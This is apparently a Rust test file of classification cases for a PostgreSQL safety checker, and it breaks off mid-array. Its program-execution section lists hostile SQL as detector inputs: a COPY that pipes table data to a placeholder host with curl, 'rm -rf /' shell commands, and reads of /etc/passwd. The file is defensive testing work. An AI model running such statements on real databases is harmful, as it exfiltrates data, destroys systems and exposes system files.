//! Table-driven PostgreSQL classification cases: for each statement string, the command tags of its statements and
//! the exact set of finding categories. Evasions (case, comments, quoting, unicode escapes, dollar quoting,
//! multi-statements, CTEs, functions) are grouped at the end.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use sluice_policy::facts::Category::{self, *};
use sluice_policy::sql::pg::classify;
use std::collections::BTreeSet;

/// (sql, tags of its statements joined with "; ", every finding category it must carry and no others)
type Case = (&'static str, &'static str, &'static [Category]);

const READS: &[Case] = &[
    ("SELECT 1", "SELECT", &[]),
    ("select * from users", "SELECT", &[]),
    ("SELECT id, name FROM public.users WHERE id = $1", "SELECT", &[]),
    (
        "SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 1",
        "SELECT",
        &[],
    ),
    (
        "SELECT a.id FROM a JOIN b ON a.id = b.a_id LEFT JOIN c USING (id)",
        "SELECT",
        &[],
    ),
    (
        "SELECT * FROM t ORDER BY created_at DESC LIMIT 10 OFFSET 20",
        "SELECT",
        &[],
    ),
    (
        "SELECT lower(email), upper(name), length(bio) FROM users",
        "SELECT",
        &[],
    ),
    (
        "SELECT now(), current_date, current_timestamp, localtime",
        "SELECT",
        &[],
    ),
    (
        "SELECT coalesce(a, b), nullif(a, 0), greatest(1, 2), least(3, 4)",
        "SELECT",
        &[],
    ),
    (
        "SELECT date_trunc('day', ts), extract(epoch from ts) FROM events",
        "SELECT",
        &[],
    ),
    (
        "SELECT jsonb_build_object('a', 1), json_agg(x) FROM t",
        "SELECT",
        &[],
    ),
    ("SELECT string_agg(name, ',') FROM users", "SELECT", &[]),
    (
        "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t",
        "SELECT",
        &[],
    ),
    ("SELECT * FROM generate_series(1, 10) g", "SELECT", &[]),
    ("SELECT unnest(ARRAY[1,2,3])", "SELECT", &[]),
    (
        "SELECT pg_size_pretty(pg_total_relation_size('users'))",
        "SELECT",
        &[],
    ),
    ("SELECT pg_catalog.lower('X')", "SELECT", &[]),
    ("SELECT current_setting('search_path')", "SELECT", &[]),
    ("SELECT version()", "SELECT", &[]),
    ("SELECT to_char(now(), 'YYYY-MM-DD')", "SELECT", &[]),
    ("SELECT regexp_replace(name, 'a', 'b') FROM t", "SELECT", &[]),
    ("SELECT has_table_privilege('users', 'select')", "SELECT", &[]),
    (
        "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE flag)",
        "SELECT",
        &[],
    ),
    ("SELECT EXISTS (SELECT 1 FROM t WHERE x = 1)", "SELECT", &[]),
    ("WITH x AS (SELECT 1 AS a) SELECT a FROM x", "SELECT", &[]),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        "SELECT",
        &[],
    ),
    ("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", "SELECT", &[]),
    ("VALUES (1, 'a'), (2, 'b')", "SELECT", &[]),
    ("TABLE users", "SELECT", &[]),
    ("SELECT * FROM t WHERE true", "SELECT", &[]),
    ("SELECT * FROM t WHERE 1=1", "SELECT", &[]),
    (
        "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
        "SELECT",
        &[],
    ),
    ("SELECT a::text, b::int, CAST(c AS numeric) FROM t", "SELECT", &[]),
    ("SELECT * FROM t TABLESAMPLE SYSTEM (10)", "SELECT", &[]),
    (
        "SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id) s",
        "SELECT",
        &[],
    ),
    (
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t",
        "SELECT",
        &[],
    ),
    ("SELECT md5('x'), sha256('x'::bytea)", "SELECT", &[]),
    ("SELECT gen_random_uuid()", "SELECT", &[]),
    (
        "SELECT array_length(ARRAY[1], 1), cardinality(ARRAY[1])",
        "SELECT",
        &[],
    ),
    ("SELECT x FROM t WHERE name ILIKE '%bob%'", "SELECT", &[]),
    ("SHOW search_path", "SHOW", &[]),
    ("SHOW ALL", "SHOW", &[]),
    ("EXPLAIN SELECT * FROM t", "EXPLAIN", &[]),
    ("EXPLAIN (FORMAT JSON) SELECT * FROM t", "EXPLAIN", &[]),
    ("EXPLAIN DELETE FROM t", "EXPLAIN", &[]),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN", &[]),
    ("EXPLAIN ANALYZE SELECT * FROM t", "SELECT", &[]),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE CURSOR", &[]),
    ("FETCH 10 FROM c", "FETCH", &[]),
    ("MOVE NEXT IN c", "MOVE", &[]),
    ("CLOSE c", "CLOSE CURSOR", &[]),
    ("COPY t TO STDOUT", "COPY TO", &[]),
    ("COPY (SELECT * FROM t) TO STDOUT WITH CSV", "COPY TO", &[]),
    ("COPY t (a, b) TO STDOUT (FORMAT csv, HEADER)", "COPY TO", &[]),
    ("PREPARE q(int) AS SELECT * FROM t WHERE id = $1", "PREPARE", &[]),
];

const SESSION: &[Case] = &[
    ("BEGIN", "BEGIN", &[]),
    (
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "START TRANSACTION",
        &[],
    ),
    ("COMMIT", "COMMIT", &[]),
    ("ROLLBACK", "ROLLBACK", &[]),
    ("SAVEPOINT s1", "SAVEPOINT", &[]),
    ("RELEASE SAVEPOINT s1", "RELEASE", &[]),
    ("ROLLBACK TO SAVEPOINT s1", "ROLLBACK", &[]),
    ("SET search_path TO app, public", "SET", &[]),
    ("SET statement_timeout = '5s'", "SET", &[]),
    ("SET LOCAL work_mem = '64MB'", "SET", &[]),
    ("SET TIME ZONE 'UTC'", "SET", &[]),
    ("RESET search_path", "RESET", &[]),
    ("RESET ALL", "RESET", &[]),
    ("DISCARD ALL", "DISCARD", &[]),
    ("LISTEN channel", "LISTEN", &[]),
    ("UNLISTEN *", "UNLISTEN", &[]),
    ("DEALLOCATE ALL", "DEALLOCATE", &[]),
    ("SET CONSTRAINTS ALL DEFERRED", "SET CONSTRAINTS", &[]),
    ("PREPARE TRANSACTION 'tx1'", "PREPARE TRANSACTION", &[]),
    ("COMMIT PREPARED 'tx1'", "COMMIT PREPARED", &[]),
    ("BEGIN; SELECT 1; COMMIT", "BEGIN; SELECT; COMMIT", &[]),
];

const WRITES: &[Case] = &[
    ("INSERT INTO t VALUES (1)", "INSERT", &[Write]),
    ("INSERT INTO t (a, b) SELECT a, b FROM u", "INSERT", &[Write]),
    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", "INSERT", &[Write]),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING RETURNING id", "INSERT", &[Write]),
    ("UPDATE t SET a = 1 WHERE id = 2", "UPDATE", &[Write]),
    ("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "UPDATE", &[Write]),
    ("UPDATE t SET a = u.a FROM u WHERE id = u.t_id", "UPDATE", &[Write]),
    ("UPDATE t SET a = 1 WHERE CURRENT OF c", "UPDATE", &[Write]),
    ("DELETE FROM t WHERE id = 5", "DELETE", &[Write]),
    ("DELETE FROM t WHERE id IN (SELECT id FROM u)", "DELETE", &[Write]),
    ("DELETE FROM t USING u WHERE t.id = u.id", "DELETE", &[Write]),
    ("DELETE FROM t AS x USING u WHERE x.id = u.id AND u.flag", "DELETE", &[Write]),
    ("DELETE FROM t WHERE created_at < now() - interval '30 days'", "DELETE", &[Write]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", "MERGE", &[Write]),
    ("COPY t FROM STDIN", "COPY FROM", &[Write]),
    ("COPY t (a) FROM STDIN WITH (FORMAT csv)", "COPY FROM", &[Write]),
    ("SELECT * FROM t FOR UPDATE", "SELECT", &[Write]),
    ("SELECT * FROM t FOR SHARE SKIP LOCKED", "SELECT", &[Write]),
    ("SELECT nextval('seq')", "SELECT", &[Write]),
    ("SELECT setval('seq', 1)", "SELECT", &[Write]),
    ("SELECT pg_terminate_backend(123)", "SELECT", &[Write]),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "SELECT", &[Write]),
    ("SELECT pg_notify('c', 'x')", "SELECT", &[Write]),
    ("SELECT pg_advisory_lock(1)", "SELECT", &[Write]),
    ("SELECT pg_reload_conf()", "SELECT", &[Write]),
    ("SELECT lo_unlink(1234)", "SELECT", &[Write]),
    ("NOTIFY channel, 'payload'", "NOTIFY", &[Write]),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK TABLE", &[Write]),
    ("VACUUM FULL t", "VACUUM", &[Write]),
    ("VACUUM", "VACUUM", &[Write]),
    ("ANALYZE t", "ANALYZE", &[Write]),
    ("REINDEX TABLE t", "REINDEX", &[Write]),
    ("CLUSTER t USING t_pkey", "CLUSTER", &[Write]),
    ("CHECKPOINT", "CHECKPOINT", &[Write]),
    ("REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW", &[Write]),
    ("CALL my_proc(1)", "CALL", &[Write, UnknownFunction]),
    ("WITH n AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM n", "SELECT", &[Write]),
    ("WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u", "SELECT", &[Write]),
    ("EXPLAIN ANALYZE INSERT INTO t VALUES (1)", "INSERT", &[Write]),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1", "UPDATE", &[Write]),
    ("COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT", "COPY TO", &[Write]),
    ("PREPARE ins AS INSERT INTO t VALUES ($1)", "PREPARE", &[Write]),
    ("DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", "DECLARE CURSOR", &[Write]),
    ("SELECT * FROM t WHERE id = (SELECT nextval('s'))", "SELECT", &[Write]),
];

const UNSAFE_DML: &[Case] = &[
    ("DELETE FROM users", "DELETE", &[Write, DeleteWithoutWhere]),
    ("delete from public.users", "DELETE", &[Write, DeleteWithoutWhere]),
    ("DELETE FROM ONLY users", "DELETE", &[Write, DeleteWithoutWhere]),
    (
        "DELETE FROM users RETURNING *",
        "DELETE",
        &[Write, DeleteWithoutWhere],
    ),
    ("DELETE FROM t USING u", "DELETE", &[Write, DeleteWithoutWhere]),
    (
        "DELETE FROM t USING u WHERE u.flag = true",
        "DELETE",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "DELETE FROM t AS x USING u WHERE u.id = 1",
        "DELETE",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "UPDATE users SET admin = true",
        "UPDATE",
        &[Write, UpdateWithoutWhere],
    ),
    (
        "update t set a = a + 1 returning *",
        "UPDATE",
        &[Write, UpdateWithoutWhere],
    ),
    (
        "UPDATE t SET a = u.a FROM u WHERE u.id = 1",
        "UPDATE",
        &[Write, UpdateWithoutWhere],
    ),
    ("DELETE FROM t WHERE true", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE TRUE", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE 1=1", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE 1 = 1", "DELETE", &[Write, TautologicalWhere]),
    (
        "DELETE FROM t WHERE 'a'='a'",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE NOT false",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE id > 5 OR 1=1",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 1=1 OR id = 5",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    ("DELETE FROM t WHERE 2 > 1", "DELETE", &[Write, TautologicalWhere]),
    (
        "DELETE FROM t WHERE EXISTS (SELECT 1)",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE coalesce(NULL, true)",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE (SELECT true)",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
        "DELETE",
        &[Write],
    ),
    (
        "DELETE FROM t WHERE EXISTS (SELECT 1 LIMIT 0)",
        "DELETE",
        &[Write],
    ),
    ("DELETE FROM t WHERE coalesce(a, true)", "DELETE", &[Write]),
    (
        "DELETE FROM t WHERE 1 <> 2",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 2-1 = 1",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    ("DELETE FROM t WHERE 't'", "DELETE", &[Write, TautologicalWhere]),
    (
        "DELETE FROM t WHERE 'yes'::boolean",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 1::bool",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE true AND 1=1",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE NULL IS NULL",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 1 IS NOT NULL",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE true IS TRUE",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 1 IN (1, 2)",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 3 BETWEEN 1 AND 5",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 'a' LIKE '%'",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 'ab' = 'a' || 'b'",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE id = id",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE t.id = t.id",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 1 IS NOT DISTINCT FROM 1",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE NOT (1 = 2)",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE (((true)))",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE '1' = 1",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "DELETE FROM t WHERE 1.0 = 1",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
    (
        "UPDATE t SET a = 1 WHERE true",
        "UPDATE",
        &[Write, TautologicalWhere],
    ),
    (
        "UPDATE t SET a = 1 WHERE 1=1",
        "UPDATE",
        &[Write, TautologicalWhere],
    ),
    (
        "UPDATE t SET a = 1 WHERE 'x' <> 'y'",
        "UPDATE",
        &[Write, TautologicalWhere],
    ),
    (
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        "MERGE",
        &[Write, TautologicalWhere],
    ),
    (
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
        "SELECT",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
        "SELECT",
        &[Write, UpdateWithoutWhere],
    ),
    (
        "WITH d AS (DELETE FROM t WHERE 1=1 RETURNING *) SELECT 1",
        "SELECT",
        &[Write, TautologicalWhere],
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM t",
        "DELETE",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "EXPLAIN (ANALYZE) UPDATE t SET a = 1",
        "UPDATE",
        &[Write, UpdateWithoutWhere],
    ),
    (
        "EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t",
        "DELETE",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "PREPARE wipe AS DELETE FROM t",
        "PREPARE",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        "COPY TO",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "INSERT INTO log SELECT * FROM (VALUES (1)) v; DELETE FROM t",
        "INSERT; DELETE",
        &[Write, DeleteWithoutWhere],
    ),
    (
        "DELETE FROM t WHERE id = 1 OR id = id",
        "DELETE",
        &[Write, TautologicalWhere],
    ),
];

const SAFE_WHERE: &[Case] = &[
    ("DELETE FROM t WHERE false", "DELETE", &[Write]),
    ("DELETE FROM t WHERE 1=2", "DELETE", &[Write]),
    ("DELETE FROM t WHERE 1=1 AND id = 5", "DELETE", &[Write]),
    ("DELETE FROM t WHERE id = 5 AND true", "DELETE", &[Write]),
    ("DELETE FROM t WHERE NULL", "DELETE", &[Write]),
    ("DELETE FROM t WHERE id = other_id", "DELETE", &[Write]),
    ("DELETE FROM t WHERE 'a' = 'b'", "DELETE", &[Write]),
    ("DELETE FROM t WHERE 'a' LIKE 'b%'", "DELETE", &[Write]),
    ("DELETE FROM t WHERE x IS NULL", "DELETE", &[Write]),
    ("DELETE FROM t WHERE NOT true", "DELETE", &[Write]),
    ("DELETE FROM t WHERE 5 IN (1, 2)", "DELETE", &[Write]),
    ("DELETE FROM t WHERE id < id", "DELETE", &[Write]),
    ("UPDATE t SET a = 1 WHERE id = $1", "UPDATE", &[Write]),
    ("UPDATE t SET a = 1 WHERE false OR id = 3", "UPDATE", &[Write]),
];

const DDL: &[Case] = &[
    ("DROP TABLE users", "DROP TABLE", &[DropObject, Ddl]),
    (
        "DROP TABLE IF EXISTS public.users, orders CASCADE",
        "DROP TABLE",
        &[DropObject, Ddl],
    ),
    ("drop table \"Users\"", "DROP TABLE", &[DropObject, Ddl]),
    ("DROP VIEW v", "DROP VIEW", &[DropObject, Ddl]),
    (
        "DROP MATERIALIZED VIEW mv",
        "DROP MATERIALIZED VIEW",
        &[DropObject, Ddl],
    ),
    ("DROP INDEX CONCURRENTLY idx", "DROP INDEX", &[DropObject, Ddl]),
    ("DROP SEQUENCE s", "DROP SEQUENCE", &[DropObject, Ddl]),
    ("DROP SCHEMA app", "DROP SCHEMA", &[DropObject, Ddl]),
    ("DROP SCHEMA app CASCADE", "DROP SCHEMA", &[DropObject, Ddl]),
    ("DROP DATABASE prod", "DROP DATABASE", &[DropObject, Ddl]),
    (
        "DROP DATABASE IF EXISTS prod WITH (FORCE)",
        "DROP DATABASE",
        &[DropObject, Ddl],
    ),
    ("DROP OWNED BY app_user", "DROP OWNED", &[DropObject, Ddl]),
    ("DROP OWNED BY app_user CASCADE", "DROP OWNED", &[DropObject, Ddl]),
    ("DROP TYPE mood CASCADE", "DROP TYPE", &[DropObject, Ddl]),
    (
        "DROP DOMAIN email_address CASCADE",
        "DROP DOMAIN",
        &[DropObject, Ddl],
    ),
    ("DROP FUNCTION f(int)", "DROP FUNCTION", &[DropObject, Ddl]),
    ("DROP PROCEDURE p", "DROP PROCEDURE", &[DropObject, Ddl]),
    ("DROP EXTENSION pgcrypto", "DROP EXTENSION", &[DropObject, Ddl]),
    ("DROP TRIGGER trg ON t", "DROP TRIGGER", &[DropObject, Ddl]),
    ("DROP FOREIGN TABLE ft", "DROP FOREIGN TABLE", &[DropObject, Ddl]),
    ("DROP TABLESPACE ts", "DROP TABLESPACE", &[DropObject, Ddl]),
    ("DROP SUBSCRIPTION sub", "DROP SUBSCRIPTION", &[DropObject, Ddl]),
    ("DROP POLICY p ON t", "DROP POLICY", &[DropObject, Ddl]),
    ("DROP RULE r ON t", "DROP RULE", &[DropObject, Ddl]),
    ("TRUNCATE users", "TRUNCATE TABLE", &[Truncate]),
    (
        "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE",
        "TRUNCATE TABLE",
        &[Truncate],
    ),
    ("truncate only t", "TRUNCATE TABLE", &[Truncate]),
    ("ALTER TABLE t DROP COLUMN c", "ALTER TABLE", &[Ddl, DropColumn]),
    (
        "ALTER TABLE t DROP COLUMN IF EXISTS c CASCADE",
        "ALTER TABLE",
        &[Ddl, DropColumn],
    ),
    ("ALTER TABLE t DROP c", "ALTER TABLE", &[Ddl, DropColumn]),
    (
        "ALTER TABLE t ADD COLUMN c int, DROP COLUMN d",
        "ALTER TABLE",
        &[Ddl, DropColumn],
    ),
    ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE", &[Ddl]),
    ("ALTER TABLE t ALTER COLUMN c TYPE bigint", "ALTER TABLE", &[Ddl]),
    ("ALTER TABLE t DROP CONSTRAINT t_pkey", "ALTER TABLE", &[Ddl]),
    ("ALTER TABLE t RENAME TO u", "ALTER TABLE", &[Ddl]),
    ("ALTER TABLE t RENAME COLUMN a TO b", "ALTER COLUMN", &[Ddl]),
    ("ALTER TABLE t SET SCHEMA archive", "ALTER TABLE", &[Ddl]),
    ("ALTER TABLE t DETACH PARTITION t_2020", "ALTER TABLE", &[Ddl]),
    ("ALTER INDEX i RENAME TO j", "ALTER INDEX", &[Ddl]),
    ("ALTER VIEW v RENAME TO w", "ALTER VIEW", &[Ddl]),
    ("CREATE TABLE t (id int primary key)", "CREATE TABLE", &[Ddl]),
    ("CREATE TEMP TABLE t (id int)", "CREATE TABLE", &[Ddl]),
    (
        "CREATE UNLOGGED TABLE IF NOT EXISTS t (id int)",
        "CREATE TABLE",
        &[Ddl],
    ),
    (
        "CREATE TABLE t AS SELECT * FROM u",
        "CREATE TABLE AS",
        &[Ddl, Write],
    ),
    ("SELECT * INTO t2 FROM t", "SELECT INTO", &[Ddl, Write]),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT 1",
        "CREATE MATERIALIZED VIEW",
        &[Ddl, Write],
    ),
    ("CREATE VIEW v AS SELECT * FROM t", "CREATE VIEW", &[Ddl]),
    (
        "CREATE OR REPLACE VIEW v AS SELECT * FROM t",
        "CREATE VIEW",
        &[Ddl],
    ),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", "CREATE INDEX", &[Ddl]),
    ("CREATE UNIQUE INDEX i ON t (lower(a))", "CREATE INDEX", &[Ddl]),
    ("CREATE SEQUENCE s", "CREATE SEQUENCE", &[Ddl]),
    ("ALTER SEQUENCE s RESTART WITH 1", "ALTER SEQUENCE", &[Ddl]),
    ("CREATE SCHEMA app", "CREATE SCHEMA", &[Ddl]),
    (
        "CREATE SCHEMA app CREATE TABLE t (id int) CREATE VIEW v AS SELECT 1",
        "CREATE SCHEMA",
        &[Ddl],
    ),
    ("CREATE DATABASE newdb", "CREATE DATABASE", &[Ddl]),
    ("ALTER DATABASE db SET work_mem = '1GB'", "ALTER DATABASE", &[Ddl]),
    (
        "CREATE EXTENSION IF NOT EXISTS pgcrypto",
        "CREATE EXTENSION",
        &[Ddl],
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE FUNCTION",
        &[Ddl],
    ),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql",
        "CREATE FUNCTION",
        &[Ddl],
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
        "CREATE PROCEDURE",
        &[Ddl],
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
        "CREATE FUNCTION",
        &[Ddl],
    ),
    ("ALTER FUNCTION f() SECURITY DEFINER", "ALTER FUNCTION", &[Ddl]),
    (
        "CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE TRIGGER",
        &[Ddl],
    ),
    (
        "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()",
        "CREATE EVENT TRIGGER",
        &[Ddl],
    ),
    ("CREATE TYPE mood AS ENUM ('happy', 'sad')", "CREATE TYPE", &[Ddl]),
    ("ALTER TYPE mood ADD VALUE 'meh'", "ALTER TYPE", &[Ddl]),
    (
        "CREATE DOMAIN posint AS int CHECK (VALUE > 0)",
        "CREATE DOMAIN",
        &[Ddl],
    ),
    ("COMMENT ON TABLE t IS 'hello'", "COMMENT", &[Ddl]),
    ("COMMENT ON COLUMN t.a IS NULL", "COMMENT", &[Ddl]),
    (
        "SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0'",
        "SECURITY LABEL",
        &[Ddl],
    ),
    (
        "IMPORT FOREIGN SCHEMA remote FROM SERVER srv INTO local",
        "IMPORT FOREIGN SCHEMA",
        &[Ddl],
    ),
    (
        "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw",
        "CREATE SERVER",
        &[Ddl],
    ),
    (
        "CREATE PUBLICATION pub FOR ALL TABLES",
        "CREATE PUBLICATION",
        &[Ddl],
    ),
    ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM", &[Ddl]),
    ("ALTER SYSTEM RESET ALL", "ALTER SYSTEM", &[Ddl]),
    (
        "CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY t",
        "CREATE RULE",
        &[Ddl, Write],
    ),
    (
        "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u",
        "CREATE RULE",
        &[Ddl, Write, DeleteWithoutWhere],
    ),
    (
        "CREATE RULE r AS ON UPDATE TO t DO INSTEAD NOTHING",
        "CREATE RULE",
        &[Ddl],
    ),
    ("CREATE TABLE t2 (LIKE t INCLUDING ALL)", "CREATE TABLE", &[Ddl]),
    ("CREATE STATISTICS s ON a, b FROM t", "CREATE STATISTICS", &[Ddl]),
    (
        "CREATE TABLE p_2024 PARTITION OF p FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')",
        "CREATE TABLE",
        &[Ddl],
    ),
];

const PRIVILEGES: &[Case] = &[
    ("GRANT SELECT ON users TO analyst", "GRANT", &[PrivilegeChange]),
    (
        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO app",
        "GRANT",
        &[PrivilegeChange],
    ),
    ("REVOKE INSERT ON t FROM PUBLIC", "REVOKE", &[PrivilegeChange]),
    ("GRANT admin TO alice", "GRANT", &[PrivilegeChange]),
    ("REVOKE admin FROM alice", "REVOKE", &[PrivilegeChange]),
    (
        "GRANT USAGE ON SCHEMA s TO r WITH GRANT OPTION",
        "GRANT",
        &[PrivilegeChange],
    ),
    (
        "CREATE ROLE r LOGIN PASSWORD 'x'",
        "CREATE ROLE",
        &[PrivilegeChange],
    ),
    (
        "CREATE USER bob WITH SUPERUSER",
        "CREATE ROLE",
        &[PrivilegeChange],
    ),
    ("ALTER ROLE bob SUPERUSER", "ALTER ROLE", &[PrivilegeChange]),
    ("ALTER USER bob PASSWORD 'y'", "ALTER ROLE", &[PrivilegeChange]),
    (
        "ALTER ROLE bob SET search_path = x",
        "ALTER ROLE",
        &[PrivilegeChange],
    ),
    ("DROP ROLE bob", "DROP ROLE", &[PrivilegeChange]),
    ("DROP USER IF EXISTS bob", "DROP ROLE", &[PrivilegeChange]),
    ("SET ROLE admin", "SET", &[PrivilegeChange]),
    ("set role 'admin'", "SET", &[PrivilegeChange]),
    ("RESET ROLE", "RESET", &[PrivilegeChange]),
    ("SET SESSION AUTHORIZATION postgres", "SET", &[PrivilegeChange]),
    ("SET LOCAL ROLE admin", "SET", &[PrivilegeChange]),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r",
        "ALTER DEFAULT PRIVILEGES",
        &[PrivilegeChange],
    ),
    ("REASSIGN OWNED BY a TO b", "REASSIGN OWNED", &[PrivilegeChange]),
    (
        "ALTER TABLE t OWNER TO bob",
        "ALTER TABLE",
        &[Ddl, PrivilegeChange],
    ),
    (
        "ALTER SCHEMA s OWNER TO bob",
        "ALTER SCHEMA",
        &[Ddl, PrivilegeChange],
    ),
    (
        "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
        "ALTER TABLE",
        &[Ddl, PrivilegeChange],
    ),
    (
        "CREATE POLICY p ON t USING (true)",
        "CREATE POLICY",
        &[Ddl, PrivilegeChange],
    ),
    (
        "SELECT set_config('role', 'admin', false)",
        "SELECT",
        &[PrivilegeChange],
    ),
];

const PROGRAMS: &[Case] = &[
    (
        "COPY t TO PROGRAM 'curl -d @- evil.example'",
        "COPY TO",
        &[ProgramExecution],
    ),
    (
        "COPY t FROM PROGRAM 'id'",
        "COPY FROM",
        &[Write, ProgramExecution],
    ),
    (
        "copy (select 1) to program 'sh -c \"rm -rf /\"'",
        "COPY TO",
        &[ProgramExecution],
    ),
    ("COPY t TO '/tmp/out.csv'", "COPY TO", &[ProgramExecution]),
    (
        "COPY t FROM '/etc/passwd'",
        "COPY FROM",
        &[Write, ProgramExecution],
    ),
    ("SELECT lo_import('/etc/passwd')", "SELECT", &[ProgramExecution]),
    ("SELECT lo_export(1234, '/tmp/x')", "SELECT", &[ProgramExecution]),
    (
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT",
        &[ProgramExecution],
    ),
    (
        "SELECT pg_catalog.pg_read_binary_file('postgresql.conf')",
        "SELECT",
        &[ProgramExecution],
    ),
    ("SELECT pg_ls_dir('.')", "SELECT", &[ProgramExecution]),
    ("SELECT * FROM pg_stat_file('x')", "SELECT", &[ProgramExecution]),
    ("LOAD 'plpgsql'", "LOAD", &[ProgramExecution]),
    (
        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
        "ALTER SYSTEM",
        &[Ddl, ProgramExecution],
    ),
    (
        "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
        "ALTER SYSTEM",
        &[Ddl, ProgramExecution],
    ),
    (
